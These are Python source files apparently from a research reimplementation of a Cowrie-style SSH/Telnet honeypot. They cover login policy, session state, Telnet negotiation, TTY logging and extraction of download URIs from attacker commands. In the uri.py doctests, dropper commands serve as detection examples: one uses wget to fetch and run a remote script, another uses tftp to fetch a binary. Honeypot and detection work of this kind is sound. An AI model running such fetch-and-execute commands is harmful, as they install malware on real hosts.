