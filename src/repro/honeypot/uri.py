"""URI extraction from shell command lines.

The honeyfarm records a URI whenever a command references a remote resource:
anything retrieved via FTP, HTTP(S), TFTP, SCP, etc.  This module implements
that detection both for explicit URLs and for the tool-specific host/file
argument styles used by common droppers (``tftp -g``, ``ftpget``).
"""

from __future__ import annotations

import re
import shlex
from typing import List

_URL_RE = re.compile(
    r"""(?:https?|ftp|tftp)://[^\s'"`;|<>]+""",
    re.IGNORECASE,
)

#: Tools whose presence makes a bare host/path argument a remote reference.
_FETCH_TOOLS = {"wget", "curl", "tftp", "ftpget", "ftp", "scp", "sftp"}


def _tokenize(command: str) -> List[str]:
    try:
        return shlex.split(command, posix=True)
    except ValueError:
        return command.split()


#: Extraction memo — URI detection is a pure function of the command text
#: and scripted sessions repeat the same lines; callers get fresh lists.
_URI_CACHE: dict = {}
_URI_CACHE_MAX = 8192


def extract_uris(command: str) -> List[str]:
    """All remote-resource URIs referenced by a command line.

    >>> extract_uris("wget http://198.51.100.7/bins.sh; sh bins.sh")
    ['http://198.51.100.7/bins.sh']
    >>> extract_uris("tftp -g -r mips 203.0.113.9")
    ['tftp://203.0.113.9/mips']
    """
    cached = _URI_CACHE.get(command)
    if cached is None:
        if len(_URI_CACHE) >= _URI_CACHE_MAX:
            _URI_CACHE.clear()
        cached = _extract_uris_uncached(command)
        _URI_CACHE[command] = cached
    return list(cached)


def _extract_uris_uncached(command: str) -> List[str]:
    uris = list(dict.fromkeys(_URL_RE.findall(command)))
    # A fetch tool can only lead the argv if its name appears in the text
    # at all — skip tokenising the (vast) majority of lines that name none.
    if not any(tool in command for tool in _FETCH_TOOLS):
        return uris
    tokens = _tokenize(command)
    if not tokens:
        return uris
    tool = tokens[0].rsplit("/", 1)[-1]
    if tool not in _FETCH_TOOLS:
        return uris
    if tool == "tftp":
        uri = _tftp_uri(tokens)
        if uri and uri not in uris:
            uris.append(uri)
    elif tool == "ftpget":
        uri = _ftpget_uri(tokens)
        if uri and uri not in uris:
            uris.append(uri)
    elif tool in {"scp", "sftp"}:
        for token in tokens[1:]:
            if ":" in token and "/" in token.split(":", 1)[1] and not token.startswith("-"):
                uri = f"scp://{token.replace(':', '/', 1)}"
                if uri not in uris:
                    uris.append(uri)
    return uris


def _tftp_uri(tokens: List[str]) -> str:
    """tftp [-g] [-l local] [-r remote] host -- busybox style."""
    remote = ""
    host = ""
    i = 1
    while i < len(tokens):
        tok = tokens[i]
        if tok == "-r" and i + 1 < len(tokens):
            remote = tokens[i + 1]
            i += 2
        elif tok == "-l" and i + 1 < len(tokens):
            i += 2
        elif tok.startswith("-"):
            i += 1
        else:
            host = tok
            i += 1
    if host:
        return f"tftp://{host}/{remote}" if remote else f"tftp://{host}/"
    return ""


def _ftpget_uri(tokens: List[str]) -> str:
    """ftpget [-u user] [-p pass] host local remote -- busybox style."""
    positional = []
    i = 1
    while i < len(tokens):
        tok = tokens[i]
        if tok in {"-u", "-p", "-P"} and i + 1 < len(tokens):
            i += 2
        elif tok.startswith("-"):
            i += 1
        else:
            positional.append(tok)
            i += 1
    if not positional:
        return ""
    host = positional[0]
    remote = positional[2] if len(positional) >= 3 else (
        positional[1] if len(positional) >= 2 else ""
    )
    return f"ftp://{host}/{remote}" if remote else f"ftp://{host}/"


def has_uri(command: str) -> bool:
    """True when the command references at least one remote resource."""
    return bool(extract_uris(command))
