"""Protocol front-ends: SSH and Telnet.

The honeypot listens on both ports; the dataset distinguishes sessions only
by protocol, plus the client's SSH version string when one is offered during
the SSH handshake.
"""

from __future__ import annotations

import enum

from repro.net.tcp import SSH_PORT, TELNET_PORT

SSH_BANNER = "SSH-2.0-OpenSSH_7.4p1 Debian-10+deb9u7"
TELNET_BANNER = "login: "


class Protocol(enum.Enum):
    SSH = "ssh"
    TELNET = "telnet"

    @property
    def port(self) -> int:
        return SSH_PORT if self is Protocol.SSH else TELNET_PORT

    @property
    def banner(self) -> str:
        return SSH_BANNER if self is Protocol.SSH else TELNET_BANNER

    @classmethod
    def for_port(cls, port: int) -> "Protocol":
        if port == SSH_PORT:
            return cls.SSH
        if port == TELNET_PORT:
            return cls.TELNET
        raise ValueError(f"honeypot does not listen on port {port}")


#: SSH client version strings commonly seen from scanning/bot tooling.
COMMON_CLIENT_VERSIONS = [
    "SSH-2.0-libssh2_1.4.3",
    "SSH-2.0-libssh2_1.8.0",
    "SSH-2.0-libssh-0.6.3",
    "SSH-2.0-Go",
    "SSH-2.0-PUTTY",
    "SSH-2.0-OpenSSH_7.3",
    "SSH-2.0-paramiko_2.7.2",
    "SSH-2.0-JSCH-0.1.54",
    "SSH-2.0-sshlib-0.1",
    "SSH-2.0-8.36 FlowSsh",
]
