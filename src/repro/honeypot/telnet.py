"""Telnet front-end: option negotiation and the login-prompt flow.

A quarter of the farm's sessions arrive over Telnet (Table 1).  Unlike
SSH, Telnet has no structured auth exchange: the honeypot plays a
login/password prompt dialogue after a minimal IAC option negotiation.
This module models both, driving the same session state machine as SSH.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import List, Optional, Tuple

from repro.honeypot.session import HoneypotSession

IAC = 255  # Interpret As Command
DONT, DO, WONT, WILL = 254, 253, 252, 251

OPT_ECHO = 1
OPT_SUPPRESS_GO_AHEAD = 3
OPT_TERMINAL_TYPE = 24
OPT_NAWS = 31  # window size

#: Options the honeypot server is willing to enable.
SERVER_WILL = {OPT_ECHO, OPT_SUPPRESS_GO_AHEAD}
#: Options the honeypot asks the client to enable.
SERVER_DO = {OPT_TERMINAL_TYPE, OPT_NAWS}

LOGIN_PROMPT = "login: "
PASSWORD_PROMPT = "Password: "
LOGIN_FAILED_BANNER = "Login incorrect"
MOTD = "\r\nBusyBox v1.24.1 built-in shell (ash)\r\n\r\n"


class TelnetPhase(enum.Enum):
    NEGOTIATING = "negotiating"
    LOGIN = "login"
    PASSWORD = "password"
    SHELL = "shell"
    CLOSED = "closed"


@dataclass
class NegotiationRecord:
    """One IAC exchange (command, option, our response)."""

    command: int
    option: int
    response: int


@dataclass
class TelnetFrontend:
    """Prompt-dialogue wrapper around a honeypot session.

    Feed client input via :meth:`client_says`; the frontend handles the
    login/password prompt sequencing and forwards credentials and shell
    lines to the underlying :class:`HoneypotSession`.
    """

    session: HoneypotSession
    phase: TelnetPhase = TelnetPhase.NEGOTIATING
    negotiations: List[NegotiationRecord] = field(default_factory=list)
    _pending_username: str = ""
    transcript: List[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.transcript.append(self._negotiate_banner())
        self.phase = TelnetPhase.LOGIN
        self.transcript.append(LOGIN_PROMPT)

    # -- IAC negotiation -----------------------------------------------------

    def _negotiate_banner(self) -> str:
        return ""  # negotiation is byte-level; text banner comes after

    def receive_iac(self, command: int, option: int) -> int:
        """Respond to one client IAC command; returns our response verb."""
        if command == DO:
            response = WILL if option in SERVER_WILL else WONT
        elif command == WILL:
            response = DO if option in SERVER_DO else DONT
        elif command in (DONT, WONT):
            response = WONT if command == DONT else DONT
        else:
            raise ValueError(f"unknown IAC command {command}")
        self.negotiations.append(NegotiationRecord(command, option, response))
        return response

    # -- prompt dialogue ---------------------------------------------------------

    def client_says(self, line: str, now: float) -> str:
        """Process one line of client input; returns the honeypot's reply."""
        if self.phase is TelnetPhase.CLOSED or self.session.is_closed:
            self.phase = TelnetPhase.CLOSED
            return ""

        if self.phase is TelnetPhase.LOGIN:
            self._pending_username = line.strip()
            self.phase = TelnetPhase.PASSWORD
            self.transcript.append(PASSWORD_PROMPT)
            return PASSWORD_PROMPT

        if self.phase is TelnetPhase.PASSWORD:
            result = self.session.try_login(self._pending_username, line, now)
            self._pending_username = ""
            if result.success:
                self.phase = TelnetPhase.SHELL
                self.transcript.append(MOTD)
                return MOTD
            if self.session.is_closed:
                self.phase = TelnetPhase.CLOSED
                return LOGIN_FAILED_BANNER + "\r\n"
            self.phase = TelnetPhase.LOGIN
            reply = LOGIN_FAILED_BANNER + "\r\n" + LOGIN_PROMPT
            self.transcript.append(reply)
            return reply

        # Shell phase: forward to the emulated shell.
        result = self.session.input_line(line, now)
        output = "\r\n".join(
            record.output for record in result.commands if record.output
        )
        if result.exit_requested:
            self.phase = TelnetPhase.CLOSED
        self.transcript.append(output)
        return output

    def hang_up(self, now: float) -> None:
        if not self.session.is_closed:
            self.session.client_disconnect(now)
        self.phase = TelnetPhase.CLOSED
