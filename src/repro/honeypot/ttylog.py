"""TTY transcript logging and replay.

Cowrie records a timestamped transcript of every shell session (its
"ttylog"), which operators replay to watch an intrusion as it happened.
This module reproduces that: a :class:`TtyLog` collects timestamped
input/output entries during a session, serialises to a compact JSON-lines
format, and replays at configurable speed.
"""

from __future__ import annotations

import enum
import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Iterator, List, Optional, Union


class TtyDirection(enum.Enum):
    INPUT = "in"  # keystrokes from the client
    OUTPUT = "out"  # honeypot responses


@dataclass(frozen=True)
class TtyEntry:
    timestamp: float
    direction: TtyDirection
    data: str

    def to_dict(self) -> dict:
        return {"t": self.timestamp, "d": self.direction.value, "x": self.data}

    @classmethod
    def from_dict(cls, raw: dict) -> "TtyEntry":
        return cls(
            timestamp=float(raw["t"]),
            direction=TtyDirection(raw["d"]),
            data=raw["x"],
        )


@dataclass
class TtyLog:
    """Transcript of one session."""

    session_id: str
    entries: List[TtyEntry] = field(default_factory=list)

    def record_input(self, now: float, data: str) -> None:
        self.entries.append(TtyEntry(now, TtyDirection.INPUT, data))

    def record_output(self, now: float, data: str) -> None:
        if data:
            self.entries.append(TtyEntry(now, TtyDirection.OUTPUT, data))

    @property
    def duration(self) -> float:
        if len(self.entries) < 2:
            return 0.0
        return self.entries[-1].timestamp - self.entries[0].timestamp

    @property
    def input_lines(self) -> List[str]:
        return [e.data for e in self.entries if e.direction is TtyDirection.INPUT]

    # -- persistence ---------------------------------------------------------

    def dump(self, path: Union[str, Path]) -> None:
        with open(path, "w", encoding="utf-8") as fh:
            fh.write(json.dumps({"session": self.session_id}) + "\n")
            for entry in self.entries:
                fh.write(json.dumps(entry.to_dict()) + "\n")

    @classmethod
    def load(cls, path: Union[str, Path]) -> "TtyLog":
        with open(path, encoding="utf-8") as fh:
            header = json.loads(fh.readline())
            entries = [TtyEntry.from_dict(json.loads(line))
                       for line in fh if line.strip()]
        return cls(session_id=header["session"], entries=entries)

    # -- replay ----------------------------------------------------------------

    def replay(
        self,
        write: Callable[[str], None],
        speed: float = 0.0,
        sleep: Optional[Callable[[float], None]] = None,
    ) -> int:
        """Replay the transcript through ``write``.

        ``speed`` > 0 replays in (scaled) real time using ``sleep``;
        speed 0 dumps instantly.  Returns the number of entries replayed.
        """
        previous: Optional[float] = None
        count = 0
        for entry in self.entries:
            if speed > 0 and sleep is not None and previous is not None:
                delay = (entry.timestamp - previous) / speed
                if delay > 0:
                    sleep(delay)
            previous = entry.timestamp
            prefix = "$ " if entry.direction is TtyDirection.INPUT else ""
            write(prefix + entry.data + "\n")
            count += 1
        return count

    def __iter__(self) -> Iterator[TtyEntry]:
        return iter(self.entries)

    def __len__(self) -> int:
        return len(self.entries)


def attach_ttylog(session) -> TtyLog:
    """Wrap a live HoneypotSession so its shell IO is transcribed.

    Monkey-patches the session's ``input_line`` to record both the client
    input and the emulated output. Returns the live :class:`TtyLog`.
    """
    log = TtyLog(session_id=session.session_id)
    original = session.input_line

    def wrapped(line: str, now: float):
        log.record_input(now, line)
        result = original(line, now)
        for record in result.commands:
            log.record_output(now, record.output)
        return result

    session.input_line = wrapped
    return log
