"""A honeypot instance: identity, placement, and connection handling."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional

from repro.honeypot.events import HoneypotEvent
from repro.honeypot.protocol import Protocol
from repro.obs import inc as _metric_inc
from repro.obs import trace as _trace
from repro.honeypot.session import HoneypotSession, SessionConfig, SessionSummary
from repro.honeypot.shell.resolver import UriResolver
from repro.net.tcp import SSH_PORT, TELNET_PORT


@dataclass
class HoneypotConfig:
    """Identity and placement of one honeypot in the farm."""

    honeypot_id: str
    ip: int
    country: str
    asn: int
    session_config: SessionConfig = field(default_factory=SessionConfig)
    #: Maximum simultaneous live sessions (0 = unlimited). Real deployments
    #: cap concurrency so a connection flood cannot exhaust the host.
    max_concurrent_sessions: int = 0


class Honeypot:
    """Accepts connections on ports 22/23 and manages live sessions."""

    def __init__(
        self,
        config: HoneypotConfig,
        event_sink: Optional[Callable[[HoneypotEvent], None]] = None,
        summary_sink: Optional[Callable[[SessionSummary], None]] = None,
        resolver: Optional[UriResolver] = None,
    ):
        self.config = config
        self._event_sink = event_sink
        self._summary_sink = summary_sink
        self._resolver = resolver
        self._live: Dict[str, HoneypotSession] = {}
        self.sessions_accepted = 0
        self.sessions_refused = 0

    @property
    def honeypot_id(self) -> str:
        return self.config.honeypot_id

    @property
    def ip(self) -> int:
        return self.config.ip

    @property
    def country(self) -> str:
        return self.config.country

    @property
    def asn(self) -> int:
        return self.config.asn

    @property
    def open_ports(self) -> List[int]:
        return [SSH_PORT, TELNET_PORT]

    def accept(
        self,
        client_ip: int,
        client_port: int,
        dst_port: int,
        now: float,
        resolver: Optional[UriResolver] = None,
    ) -> HoneypotSession:
        """Complete a handshake on ``dst_port`` and open a session.

        Raises :class:`ConnectionRefusedError` when the concurrency cap is
        reached — the TCP-level refusal a flooded host produces.
        """
        limit = self.config.max_concurrent_sessions
        if limit and len(self._live) >= limit:
            self.sessions_refused += 1
            _metric_inc("honeypot.sessions_refused")
            _trace.emit("honeypot.refused", sim_time=now,
                        sensor=self.honeypot_id, src_ip=client_ip,
                        dst_port=dst_port, live=len(self._live))
            raise ConnectionRefusedError(
                f"{self.honeypot_id}: session limit {limit} reached"
            )
        protocol = Protocol.for_port(dst_port)
        session = HoneypotSession(
            honeypot_id=self.honeypot_id,
            honeypot_ip=self.ip,
            protocol=protocol,
            client_ip=client_ip,
            client_port=client_port,
            start_time=now,
            config=self.config.session_config,
            resolver=resolver if resolver is not None else self._resolver,
            event_sink=self._event_sink,
        )
        self._live[session.session_id] = session
        self.sessions_accepted += 1
        _metric_inc("honeypot.sessions_accepted")
        return session

    def reap(self, now: float) -> List[SessionSummary]:
        """Time out overdue sessions and collect summaries of closed ones."""
        summaries: List[SessionSummary] = []
        for session_id in list(self._live):
            session = self._live[session_id]
            session.check_timeout(now)
            if session.is_closed:
                summary = session.summary()
                summaries.append(summary)
                if self._summary_sink is not None:
                    self._summary_sink(summary)
                del self._live[session_id]
        return summaries

    @property
    def live_session_count(self) -> int:
        return len(self._live)
