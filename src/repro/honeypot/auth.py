"""The honeyfarm's login policy.

The studied honeypots allow password authentication with username ``root``
and any password except the literal string ``"root"``.  Public-key
authentication is not supported.  Telnet uses the same rule.  A session is
disconnected after a configurable number of failed attempts (three for SSH,
mirroring the paper's observation that most FAIL_LOG sessions end after
three tries).
"""

from __future__ import annotations

from dataclasses import dataclass

REQUIRED_USERNAME = "root"
REJECTED_PASSWORD = "root"
MAX_ATTEMPTS = 3


@dataclass(frozen=True)
class AuthResult:
    success: bool
    username: str
    password: str
    reason: str = ""


class AuthPolicy:
    """Accepts (root, anything-but-"root"); rejects key auth outright."""

    def __init__(
        self,
        required_username: str = REQUIRED_USERNAME,
        rejected_password: str = REJECTED_PASSWORD,
        max_attempts: int = MAX_ATTEMPTS,
    ):
        self.required_username = required_username
        self.rejected_password = rejected_password
        self.max_attempts = max_attempts

    def check_password(self, username: str, password: str) -> AuthResult:
        if username != self.required_username:
            return AuthResult(False, username, password, reason="bad-username")
        if password == self.rejected_password:
            return AuthResult(False, username, password, reason="rejected-password")
        if password == "":
            return AuthResult(False, username, password, reason="empty-password")
        return AuthResult(True, username, password)

    def check_publickey(self, username: str, key_fingerprint: str) -> AuthResult:
        """Public-key auth is never accepted by the honeyfarm's config."""
        return AuthResult(False, username, key_fingerprint, reason="publickey-unsupported")
