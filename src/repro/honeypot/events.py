"""Cowrie-style structured honeypot events.

Cowrie logs JSON events such as ``cowrie.session.connect``,
``cowrie.login.failed`` and ``cowrie.command.input``.  We reproduce the same
event vocabulary; the farm collector consumes these to build per-session
summary records (the form the paper's dataset takes).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Any, Dict


class EventType(enum.Enum):
    SESSION_CONNECT = "honeypot.session.connect"
    CLIENT_VERSION = "honeypot.client.version"
    LOGIN_SUCCESS = "honeypot.login.success"
    LOGIN_FAILED = "honeypot.login.failed"
    COMMAND_INPUT = "honeypot.command.input"
    COMMAND_FAILED = "honeypot.command.failed"
    FILE_DOWNLOAD = "honeypot.session.file_download"
    FILE_UPLOAD = "honeypot.session.file_upload"
    FILE_CREATED = "honeypot.session.file_created"
    FILE_MODIFIED = "honeypot.session.file_modified"
    SESSION_CLOSED = "honeypot.session.closed"


@dataclass
class HoneypotEvent:
    """One structured log event emitted by a honeypot session."""

    event_type: EventType
    timestamp: float
    session_id: str
    honeypot_id: str
    data: Dict[str, Any] = field(default_factory=dict)

    def to_dict(self) -> Dict[str, Any]:
        return {
            "eventid": self.event_type.value,
            "timestamp": self.timestamp,
            "session": self.session_id,
            "sensor": self.honeypot_id,
            **self.data,
        }
