"""A from-scratch medium-interaction SSH/Telnet honeypot (Cowrie-like).

This package implements the honeypot software that the studied honeyfarm
runs: a medium-interaction honeypot that

* accepts TCP connections on the SSH (22) and Telnet (23) ports,
* allows password logins as ``root`` with any password except ``"root"``
  (no public-key auth), recording every attempt,
* on success presents an emulated Unix shell that implements "known"
  commands and records "unknown" ones verbatim,
* records a URI whenever a command references a remote resource,
* records a content hash whenever a command creates or modifies a file,
* terminates sessions on client disconnect or on a three-minute timeout
  (the timeout is reset while a remote download is in flight).

The session state machine emits Cowrie-style structured events which the
farm collector aggregates into per-session summary records.
"""

from repro.honeypot.auth import AuthPolicy, AuthResult
from repro.honeypot.events import EventType, HoneypotEvent
from repro.honeypot.filesystem import FakeFilesystem, FileEntry, hash_content
from repro.honeypot.session import (
    CloseReason,
    HoneypotSession,
    SessionConfig,
    SessionSummary,
)
from repro.honeypot.honeypot import Honeypot, HoneypotConfig
from repro.honeypot.protocol import Protocol, SSH_BANNER, TELNET_BANNER
from repro.honeypot.uri import extract_uris
from repro.honeypot.artifacts import Artifact, ArtifactStore
from repro.honeypot.ttylog import TtyLog, attach_ttylog

__all__ = [
    "Artifact",
    "ArtifactStore",
    "TtyLog",
    "attach_ttylog",
    "AuthPolicy",
    "AuthResult",
    "EventType",
    "HoneypotEvent",
    "FakeFilesystem",
    "FileEntry",
    "hash_content",
    "CloseReason",
    "HoneypotSession",
    "SessionConfig",
    "SessionSummary",
    "Honeypot",
    "HoneypotConfig",
    "Protocol",
    "SSH_BANNER",
    "TELNET_BANNER",
    "extract_uris",
]
