"""The honeypot session state machine.

One session = one TCP connection on port 22 or 23.  The machine tracks the
authentication phase (bounded by a no-login timeout and a maximum number of
attempts), the shell phase (bounded by the three-minute interaction timeout,
which is extended while a download is in flight), and emits Cowrie-style
events throughout.  The :class:`SessionSummary` produced at close time is
the per-session record the farm collector stores — the same shape as the
paper's dataset rows.
"""

from __future__ import annotations

import enum
import itertools
from dataclasses import dataclass, field
from typing import Callable, List, Optional, Tuple

from repro.honeypot.auth import AuthPolicy, AuthResult
from repro.honeypot.events import EventType, HoneypotEvent
from repro.obs import inc as _metric_inc
from repro.obs import trace as _trace
from repro.honeypot.filesystem import FakeFilesystem
from repro.honeypot.protocol import Protocol
from repro.honeypot.shell.base import CommandRegistry
from repro.honeypot.shell.context import ShellContext
from repro.honeypot.shell.resolver import UriResolver
from repro.honeypot.shell.shell import EmulatedShell, ExecutionResult

_session_counter = itertools.count(1)


class SessionState(enum.Enum):
    CONNECTED = "connected"  # TCP established, no successful login yet
    SHELL = "shell"  # logged in, shell available
    CLOSED = "closed"


class CloseReason(enum.Enum):
    CLIENT_DISCONNECT = "client-disconnect"
    AUTH_TIMEOUT = "auth-timeout"
    IDLE_TIMEOUT = "idle-timeout"
    TOO_MANY_ATTEMPTS = "too-many-attempts"
    CLIENT_EXIT = "client-exit"


@dataclass
class SessionConfig:
    """Timeout / policy knobs (defaults match the studied deployment)."""

    #: Seconds a connected-but-unauthenticated client may linger.
    no_login_timeout: float = 120.0
    #: Idle timeout after successful login ("three minutes" in the paper).
    interaction_timeout: float = 180.0
    auth_policy: AuthPolicy = field(default_factory=AuthPolicy)


@dataclass
class SessionSummary:
    """Per-session record: what the honeyfarm database stores."""

    session_id: str
    honeypot_id: str
    protocol: Protocol
    client_ip: int
    client_port: int
    honeypot_ip: int
    start_time: float
    end_time: float
    close_reason: CloseReason
    client_version: str = ""
    credentials: List[Tuple[str, str]] = field(default_factory=list)
    login_success: bool = False
    commands: List[str] = field(default_factory=list)
    known_commands: List[bool] = field(default_factory=list)
    uris: List[str] = field(default_factory=list)
    file_hashes: List[str] = field(default_factory=list)

    @property
    def duration(self) -> float:
        return self.end_time - self.start_time

    @property
    def attempted_login(self) -> bool:
        return bool(self.credentials)

    @property
    def executed_commands(self) -> bool:
        return bool(self.commands)


class HoneypotSession:
    """State machine for one client connection."""

    def __init__(
        self,
        honeypot_id: str,
        honeypot_ip: int,
        protocol: Protocol,
        client_ip: int,
        client_port: int,
        start_time: float,
        config: Optional[SessionConfig] = None,
        resolver: Optional[UriResolver] = None,
        registry: Optional[CommandRegistry] = None,
        event_sink: Optional[Callable[[HoneypotEvent], None]] = None,
    ):
        self.session_id = f"s{next(_session_counter):010x}"
        #: Flight-recorder identity for this connection: every event the
        #: session emits carries it, so a trace groups per session.
        self.trace_id = f"session:{self.session_id}"
        self.honeypot_id = honeypot_id
        self.honeypot_ip = honeypot_ip
        self.protocol = protocol
        self.client_ip = client_ip
        self.client_port = client_port
        self.start_time = start_time
        self.config = config or SessionConfig()
        self.state = SessionState.CONNECTED
        self._event_sink = event_sink
        self._registry = registry

        self.fs = FakeFilesystem()
        self.shell_context = ShellContext(fs=self.fs, now=start_time)
        if resolver is not None:
            self.shell_context.resolver = resolver
        self._shell = EmulatedShell(self.shell_context, registry=registry)

        self.client_version = ""
        self.credentials: List[Tuple[str, str]] = []
        self.login_success = False
        self.commands: List[str] = []
        self.known_commands: List[bool] = []
        self.uris: List[str] = []
        self.file_hashes: List[str] = []
        self.close_reason: Optional[CloseReason] = None
        self.end_time: Optional[float] = None

        #: Absolute time at which the honeypot will time the session out.
        self.deadline = start_time + self.config.no_login_timeout

        self._emit(EventType.SESSION_CONNECT, start_time, {
            "src_ip": client_ip,
            "src_port": client_port,
            "dst_port": protocol.port,
            "protocol": protocol.value,
        })

    # -- event plumbing ----------------------------------------------------

    def _emit(self, event_type: EventType, now: float, data: dict) -> None:
        _trace.emit(event_type.value, trace_id=self.trace_id, sim_time=now,
                    sensor=self.honeypot_id, session=self.session_id, **data)
        if self._event_sink is not None:
            self._event_sink(HoneypotEvent(
                event_type=event_type,
                timestamp=now,
                session_id=self.session_id,
                honeypot_id=self.honeypot_id,
                data=data,
            ))

    def _require_state(self, *states: SessionState) -> None:
        if self.state not in states:
            raise RuntimeError(
                f"operation invalid in state {self.state.value} "
                f"(expected {'/'.join(s.value for s in states)})"
            )

    # -- client-driven transitions ------------------------------------------

    def offer_client_version(self, version: str, now: float) -> None:
        """Record the SSH client version string from the handshake."""
        self._require_state(SessionState.CONNECTED)
        self.client_version = version
        self._emit(EventType.CLIENT_VERSION, now, {"version": version})

    def try_login(self, username: str, password: str, now: float) -> AuthResult:
        """One password attempt. May close the session on repeated failure."""
        self._require_state(SessionState.CONNECTED)
        self._check_not_past_deadline(now)
        _metric_inc("honeypot.auth_attempts")
        result = self.config.auth_policy.check_password(username, password)
        self.credentials.append((username, password))
        if result.success:
            self.login_success = True
            self.state = SessionState.SHELL
            self.deadline = now + self.config.interaction_timeout
            self._emit(EventType.LOGIN_SUCCESS, now, {
                "username": username, "password": password,
            })
        else:
            self._emit(EventType.LOGIN_FAILED, now, {
                "username": username, "password": password, "reason": result.reason,
            })
            if (
                self.protocol is Protocol.SSH
                and len(self.credentials) >= self.config.auth_policy.max_attempts
            ):
                self._close(now, CloseReason.TOO_MANY_ATTEMPTS)
        return result

    def try_publickey(self, username: str, key_fingerprint: str, now: float) -> AuthResult:
        """A public-key authentication attempt (never accepted).

        The deployment supports password auth only; key offers are logged
        as failed attempts with the key fingerprint in the password slot,
        which is how they surface in the recorded credential strings.
        """
        self._require_state(SessionState.CONNECTED)
        self._check_not_past_deadline(now)
        _metric_inc("honeypot.auth_attempts")
        result = self.config.auth_policy.check_publickey(username, key_fingerprint)
        self.credentials.append((username, f"ssh-key:{key_fingerprint}"))
        self._emit(EventType.LOGIN_FAILED, now, {
            "username": username,
            "fingerprint": key_fingerprint,
            "method": "publickey",
            "reason": result.reason,
        })
        if (
            self.protocol is Protocol.SSH
            and len(self.credentials) >= self.config.auth_policy.max_attempts
        ):
            self._close(now, CloseReason.TOO_MANY_ATTEMPTS)
        return result

    def input_line(self, line: str, now: float) -> ExecutionResult:
        """Execute one shell input line from the client."""
        self._require_state(SessionState.SHELL)
        self._check_not_past_deadline(now)
        self.shell_context.now = now
        result = self._shell.execute(line)

        for record in result.commands:
            self.commands.append(record.text)
            self.known_commands.append(record.known)
            self._emit(EventType.COMMAND_INPUT, now, {
                "input": record.text, "known": record.known,
            })
            for uri in record.uris:
                if uri not in self.uris:
                    self.uris.append(uri)

        download_time = 0.0
        for download in result.downloads:
            download_time += download.duration
            self._emit(EventType.FILE_DOWNLOAD, now, {
                "url": download.uri,
                "shasum": download.sha256,
                "size": download.size,
                "success": download.success,
            })
        for change in result.file_changes:
            self.file_hashes.append(change.sha256)
            _metric_inc("honeypot.hashes_recorded")
            event = EventType.FILE_CREATED if change.created else EventType.FILE_MODIFIED
            self._emit(event, now, {
                "path": change.path, "shasum": change.sha256, "size": change.size,
            })

        # The idle timeout restarts at each input; while a download is in
        # flight the timer is suspended, which is how CMD+URI sessions can
        # outlive the three-minute limit.
        self.deadline = now + download_time + self.config.interaction_timeout

        if result.exit_requested:
            self._close(now + download_time, CloseReason.CLIENT_EXIT)
        return result

    def client_disconnect(self, now: float) -> None:
        """Client tears the TCP connection down (FIN/RST)."""
        if self.state is SessionState.CLOSED:
            return
        self._close(now, CloseReason.CLIENT_DISCONNECT)

    # -- honeypot-driven transitions -----------------------------------------

    def check_timeout(self, now: float) -> bool:
        """Close the session if its deadline has passed. True if closed."""
        if self.state is SessionState.CLOSED:
            return True
        if now >= self.deadline:
            reason = (
                CloseReason.AUTH_TIMEOUT
                if self.state is SessionState.CONNECTED
                else CloseReason.IDLE_TIMEOUT
            )
            _metric_inc(f"honeypot.timeouts.{reason.value}")
            self._close(self.deadline, reason)
            return True
        return False

    def _check_not_past_deadline(self, now: float) -> None:
        if now >= self.deadline:
            self.check_timeout(now)
            raise RuntimeError("session already timed out")

    def _close(self, now: float, reason: CloseReason) -> None:
        self.state = SessionState.CLOSED
        self.close_reason = reason
        self.end_time = now
        _metric_inc(f"honeypot.sessions.{self._category()}")
        self._emit(EventType.SESSION_CLOSED, now, {
            "reason": reason.value,
            "duration": now - self.start_time,
        })

    def _category(self) -> str:
        """The paper's session taxonomy, derived from this session's record."""
        if not self.credentials:
            return "NO_CRED"
        if not self.login_success:
            return "FAIL_LOG"
        if not self.commands:
            return "NO_CMD"
        return "CMD_URI" if self.uris else "CMD"

    # -- results ---------------------------------------------------------------

    @property
    def is_closed(self) -> bool:
        return self.state is SessionState.CLOSED

    def summary(self) -> SessionSummary:
        """Build the per-session record (only valid once closed)."""
        if not self.is_closed:
            raise RuntimeError("session still open; no summary yet")
        return SessionSummary(
            session_id=self.session_id,
            honeypot_id=self.honeypot_id,
            protocol=self.protocol,
            client_ip=self.client_ip,
            client_port=self.client_port,
            honeypot_ip=self.honeypot_ip,
            start_time=self.start_time,
            end_time=self.end_time,
            close_reason=self.close_reason,
            client_version=self.client_version,
            credentials=list(self.credentials),
            login_success=self.login_success,
            commands=list(self.commands),
            known_commands=list(self.known_commands),
            uris=list(self.uris),
            file_hashes=list(self.file_hashes),
        )
