"""Artifact storage: payloads captured by the honeypot, deduplicated by hash.

Cowrie stores every downloaded/created file under its content hash; the
farm's 64k unique hashes in the paper are exactly the keys of this store.
Deduplication statistics (how often the same artifact reappears) are what
make campaign correlation cheap.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.honeypot.filesystem import hash_content


@dataclass
class Artifact:
    """One unique captured file."""

    sha256: str
    size: int
    content: Optional[bytes]  # may be dropped to save memory
    first_seen: float
    last_seen: float
    times_seen: int = 1
    sources: set = field(default_factory=set)  # client IPs that produced it


class ArtifactStore:
    """Content-addressed artifact storage with dedup accounting.

    ``keep_content_bytes`` bounds the memory spent retaining payload bytes;
    artifacts beyond the budget keep only metadata (hash, size, sightings),
    matching how a long-running deployment prunes its spool.
    """

    def __init__(self, keep_content_bytes: int = 64 * 1024 * 1024):
        self._artifacts: Dict[str, Artifact] = {}
        self.keep_content_bytes = keep_content_bytes
        self._content_bytes = 0
        self.total_submissions = 0

    def submit(
        self,
        content: bytes,
        now: float,
        source_ip: Optional[int] = None,
    ) -> Artifact:
        """Store (or re-sight) an artifact; returns its record."""
        self.total_submissions += 1
        sha = hash_content(content)
        artifact = self._artifacts.get(sha)
        if artifact is None:
            keep = self._content_bytes + len(content) <= self.keep_content_bytes
            artifact = Artifact(
                sha256=sha,
                size=len(content),
                content=content if keep else None,
                first_seen=now,
                last_seen=now,
            )
            if keep:
                self._content_bytes += len(content)
            self._artifacts[sha] = artifact
        else:
            artifact.times_seen += 1
            artifact.last_seen = max(artifact.last_seen, now)
            artifact.first_seen = min(artifact.first_seen, now)
        if source_ip is not None:
            artifact.sources.add(source_ip)
        return artifact

